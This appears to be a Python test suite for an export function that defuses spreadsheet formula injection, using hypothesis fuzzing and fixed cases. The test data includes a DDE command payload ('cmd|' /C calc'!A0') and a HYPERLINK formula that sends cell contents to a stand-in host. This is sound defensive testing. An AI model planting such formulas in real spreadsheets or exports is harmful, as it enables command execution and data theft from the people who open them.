"""No cell of ours makes a spreadsheet compute, and every cell can still be read."""

from __future__ import annotations

import re
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from archive.exports.cells import defused
from archive.models import Stance

# Spelt out here once more, in another way than the code does it.
CUTS = re.compile("[;\t\n\v\f\r\x1c-\x1e\x85\u2028\u2029]")
QUOTES = '"“”„‟«»＂'
PARTS = [
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "﹣",
    "−",
    " ",
    "\u3000",
    "\xa0",
    "\ufeff",
    "\t",
    "\r",
    "\n",
]
PARTS += [
    ";",
    ",",
    '"',
    "'",
    "„",
    "1",
    "cmd|' /C calc'!A0",
    "SUMME(A1)",
    "Für",
    "\x00",
    "\u200b",
    "\xad",
    "\u202e",
    "\u2066",
]
hostile = st.lists(st.sampled_from(PARTS) | st.characters(codec="utf-8"), max_size=12).map("".join)


def computes(cell: str) -> bool:
    """Whether any program might take the cell, or a piece of it where it could be cut, for a formula."""
    if re.fullmatch(r"[+-]?\d+([.,]\d+)?", cell, re.ASCII):
        return False
    return cell[:1] in ("\t", "\r", "\n") or any(begins_with_sign(piece) for piece in CUTS.split(cell))


def begins_with_sign(piece: str) -> bool:
    for character in piece:
        if not is_unseen(character) and character not in QUOTES:
            return unicodedata.normalize("NFKC", character) in set("=+-@") and character in SIGNS
    return False


def is_unseen(character: str) -> bool:
    """Blanks, control characters, and format characters but for those of other scripts, which are seen."""
    general = unicodedata.category(character) == "Cf" and not unicodedata.name(character, "").startswith(
        OTHERS
    )
    return general or unicodedata.category(character) in ("Cc", "Zs")


OTHERS = ("ARABIC", "SYRIAC", "KAITHI", "EGYPTIAN", "SHORTHAND", "MUSICAL", "TAG", "LANGUAGE TAG")
# Superscripts are equal to signs in NFKC too, but no spreadsheet reads them as such.
SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫"


@given(hostile)
def test_no_cell_begins_a_formula(text: str) -> None:
    assert not computes(defused(text))


@given(hostile)
def test_only_apostrophes_are_put_in(text: str) -> None:
    assert defused(text).replace("'", "") == text.replace("'", "")


@given(hostile)
def test_defusing_twice_is_defusing_once(text: str) -> None:
    assert defused(defused(text)) == defused(text)


@given(hostile)
def test_what_computes_nothing_stays_as_it_is(text: str) -> None:
    if not computes(text):
        assert defused(text) == text


@given(st.decimals(allow_nan=False, allow_infinity=False, places=2) | st.integers())
def test_numbers_stay_numbers(number: object) -> None:
    assert defused(str(number)) == str(number)


@pytest.mark.parametrize("stance", list(Stance))
def test_the_signs_of_the_stances_stay_readable(stance: Stance) -> None:
    assert defused(f"Karla Muster: Twitter {stance.sign}") == f"Karla Muster: Twitter {stance.sign}"
    assert defused(stance.sign).removeprefix("'") == stance.sign


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://netz.example/?"&A1)', '\'=HYPERLINK("http://netz.example/?"&A1)'),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("  =1+1", "'  =1+1"),
        ('"=1+1"', '\'"=1+1"'),
        ("\t=1+1", "'\t'=1+1"),
        ("＝1+1", "'＝1+1"),
        ("-5 Prozent", "'-5 Prozent"),
        ("ja;=1+1", "ja;'=1+1"),
        ("Liste:\n- eins", "Liste:\n'- eins"),
        ("-5", "-5"),
        ("−− gar nicht", "−− gar nicht"),
        ("KMU = Mittelstand, 2 + 2 - 1", "KMU = Mittelstand, 2 + 2 - 1"),
        ("info@betrieb.example", "info@betrieb.example"),
        ("", ""),
    ],
)
def test_what_a_cell_looks_like(text: str, cell: str) -> None:
    assert defused(text) == cell


def test_a_long_text_of_blanks_takes_no_longer_than_it_should() -> None:
    assert defused(" " * 200_000) == " " * 200_000
    assert defused("\n" * 200_000) == "'" + "\n" * 200_000
